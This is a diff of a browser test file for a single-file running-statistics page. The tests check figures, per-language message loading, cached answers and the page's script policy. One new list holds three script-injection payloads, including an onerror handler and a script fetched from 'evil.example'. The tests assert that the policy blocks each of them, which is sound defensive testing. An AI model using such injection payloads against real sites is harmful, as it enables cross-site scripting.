@@ -22,8 +22,6 @@ import { until } from './until.ts';
  * policy in the file counts.
  */
 
-/** The WebKits stand for iOS. */
-const ENGINES = { engines: ['chromium-153', 'chromium-64', 'wpe', 'webkitgtk'] };
 const STATISTICS = '/running-statistics?tab=week';
 const pack = readPackage('dist-package');
 const { manifest } = pack;
@@ -76,111 +74,108 @@ const visit = (
 ) => open(site.url + link, { ...phone(engine, { language, device, gateway: { key } }), clock: null });
 
 for (const { path: route, ...row } of singles)
-  browserTest(
-    `${route} as a single file: figures, a tap, and no request for what is inline`,
-    async ({ engine, open }) => {
-      const expected = EXPECTED[route]!;
-      const { userAgent } = expected;
-      const key = `single-${engine.name}-${route.slice(1)}`;
-      site.block([]);
-      site.gateway.reset();
-      const page = await open(
-        site.url + linkOf({ path: route, ...row }),
-        phone(engine, { gateway: { key }, ...(userAgent ? { userAgent } : {}) }),
-      );
-      await page.waitFor(isSettled);
-      await textWith(page, expected.shows);
-      const calls = site.gateway.log.filter((entry) => entry.key === key);
-      const figures = (expected.figures ?? []).map((figure) => written(site.url, calls, figure));
-      await textWith(page, await Promise.all(figures));
-      assert.equal(askedAgain(page, route), []);
-      await page.tap(expected.tap);
-      await until(() => hasCome(page, expected.then), {
-        report: () => `what the tap brings: ${JSON.stringify(expected.then)}`,
-      });
-      assert.equal(refusals(page), []);
-    },
-    ENGINES,
-  );
-
-browserTest(
-  'a single file in German is in German; for another language its messages alone are asked for',
-  async (context) => {
-    const german = await startPreview({ distDir: siteIn('de') });
-    const open = (language: string) =>
-      context.open(german.url + STATISTICS, { ...phone(context.engine, { language }), clock: null });
-    const inGerman = await open('de');
-    await inGerman.waitFor('text=Woche');
-    assert.equal(askedAgain(inGerman, '/running-statistics'), []);
-    const inSpanish = await open('es');
-    await inSpanish.waitFor('text=Semana');
-    assert.equal(askedAgain(inSpanish, '/running-statistics'), [
-      addressOf(/^a\/m-\w+\/running-statistics\.es\.js$/),
-    ]);
-    assert.equal([inGerman, inSpanish].flatMap(refusals), []);
-    await german.close();
-  },
-  ENGINES,
-);
-
-browserTest(
-  'with the answers of the app a single file has its figures without any file or call',
-  async (context) => {
-    const key = `answers-${context.engine.name}`;
-    const before = await visit(context, STATISTICS, { key });
-    await before.waitFor('.chart-svg');
-    await before.waitFor('text=View more');
-    const asked = () =>
-      before.requests().filter(({ url, method }) => method === 'GET' && CALLS.test(new URL(url).pathname));
-    // WebKitGTK tells of a request when its answer has come.
-    await until(() => asked().length >= 4);
-    const answers = await Promise.all(
-      asked()
-        .slice(0, 4)
-        .map(async ({ url, headers }) => {
-          const answer = await fetch(url, { headers });
-          return {
-            url: url.replace(site.url, ''),
-            status: answer.status,
-            text: await answer.text(),
-            atMs: now(),
-          };
-        }),
+  browserTest(`${route} as a single file: figures and a tap`, async ({ engine, open }) => {
+    const expected = EXPECTED[route]!;
+    const { userAgent } = expected;
+    const key = `single-${engine.name}-${route.slice(1)}`;
+    site.block([]);
+    site.gateway.reset();
+    const page = await open(
+      site.url + linkOf({ path: route, ...row }),
+      phone(engine, { gateway: { key }, ...(userAgent ? { userAgent } : {}) }),
     );
-    await before.close();
-    // The shims that the oldest engine needs; no engine of iOS 15 does.
-    const isNew = context.engine.name !== 'chromium-64';
-    if (isNew) site.block([{ file: '', mode: 'hang' }]);
-    try {
-      const page = await visit(context, STATISTICS, { key, device: { answers } });
-      await page.waitFor('.chart-svg');
-      await page.waitFor('text=View more');
-      assert.match(await page.text('main'), /\d/);
-      const sent = page
-        .requests()
-        .filter(({ url }) => answers.some((answer) => url === site.url + answer.url));
-      assert.equal(sent, []);
-      assert.equal(askedAgain(page, '/running-statistics'), []);
-    } finally {
-      site.block([]);
-    }
-  },
-  ENGINES,
-);
+    await page.waitFor(isSettled);
+    await textWith(page, expected.shows);
+    const calls = site.gateway.log.filter((entry) => entry.key === key);
+    const figures = (expected.figures ?? []).map((figure) => written(site.url, calls, figure));
+    await textWith(page, await Promise.all(figures));
+    assert.equal(askedAgain(page, route), []);
+    await page.tap(expected.tap);
+    await until(() => hasCome(page, expected.then), {
+      report: () => `what the tap brings: ${JSON.stringify(expected.then)}`,
+    });
+    assert.equal(refusals(page), []);
+  });
 
-browserTest(
-  'the policy in a single file refuses a script that is not of the file',
-  async (context) => {
+browserTest('another language asks for its messages alone', async (context) => {
+  const german = await startPreview({ distDir: siteIn('de') });
+  const open = (language: string) =>
+    context.open(german.url + STATISTICS, { ...phone(context.engine, { language }), clock: null });
+  const inGerman = await open('de');
+  await inGerman.waitFor('text=Woche');
+  assert.equal(askedAgain(inGerman, '/running-statistics'), []);
+  const inSpanish = await open('es');
+  await inSpanish.waitFor('text=Semana');
+  assert.equal(askedAgain(inSpanish, '/running-statistics'), [
+    addressOf(/^a\/m-\w+\/running-statistics\.es\.js$/),
+  ]);
+  assert.equal([inGerman, inSpanish].flatMap(refusals), []);
+  await german.close();
+});
+
+browserTest('with answers of the app it has its figures without a call', async (context) => {
+  const key = `answers-${context.engine.name}`;
+  const before = await visit(context, STATISTICS, { key });
+  await before.waitFor('.chart-svg');
+  await before.waitFor('text=View more');
+  const asked = () =>
+    before.requests().filter(({ url, method }) => method === 'GET' && CALLS.test(new URL(url).pathname));
+  // WebKitGTK tells of a request when its answer has come.
+  await until(() => asked().length >= 4);
+  const answers = await Promise.all(
+    asked()
+      .slice(0, 4)
+      .map(async ({ url, headers }) => {
+        const answer = await fetch(url, { headers });
+        return {
+          url: url.replace(site.url, ''),
+          status: answer.status,
+          text: await answer.text(),
+          atMs: now(),
+        };
+      }),
+  );
+  await before.close();
+  // The shims that the oldest engine needs; no engine of iOS 15 does.
+  const isNew = context.engine.name !== 'chromium-64';
+  if (isNew) site.block([{ file: '', mode: 'hang' }]);
+  try {
+    const page = await visit(context, STATISTICS, { key, device: { answers } });
+    await page.waitFor('.chart-svg');
+    await page.waitFor('text=View more');
+    assert.match(await page.text('main'), /\d/);
+    const sent = page.requests().filter(({ url }) => answers.some((answer) => url === site.url + answer.url));
+    assert.equal(sent, []);
+    assert.equal(askedAgain(page, '/running-statistics'), []);
+  } finally {
+    site.block([]);
+  }
+});
+
+/** Each would run in the page if its policy allowed it. */
+const ATTACKS: readonly string[] = [
+  `var script = document.createElement('script'); script.textContent = 'window.broken = 1';
+    document.head.appendChild(script)`,
+  `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = 1">')`,
+  `var script = document.createElement('script'); script.src = 'https://evil.example/x.js';
+    document.head.appendChild(script)`,
+];
+
+for (const attack of ATTACKS)
+  browserTest(`the policy in a single file refuses: ${attack.slice(0, 60)}`, async (context) => {
     const page = await visit(context, STATISTICS);
     await page.waitFor('.chart-svg');
     assert.equal(refusals(page), []);
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      script.textContent = 'window.broken = 1';
-      document.head.appendChild(script);
-    });
+    await page.evaluate(`void (function () { ${attack} })()`);
     await until(() => refusals(page).length > 0, { report: () => page.console().join('\n') });
     assert.is(await page.evaluate('window.broken'), undefined);
-  },
-  ENGINES,
-);
+  });
+
+browserTest('a late part is not inline: it comes from the network', async (context) => {
+  const late = addressOf(/^a\/sports-menu-\w+\.js$/);
+  const page = await visit(context, '/running-statistics');
+  await page.waitFor('text=View more');
+  await page.tap('.menu-button');
+  await page.waitFor('.menu-item');
+  assert.is(askedFor(page).filter((file) => file === late).length, 1);
+});
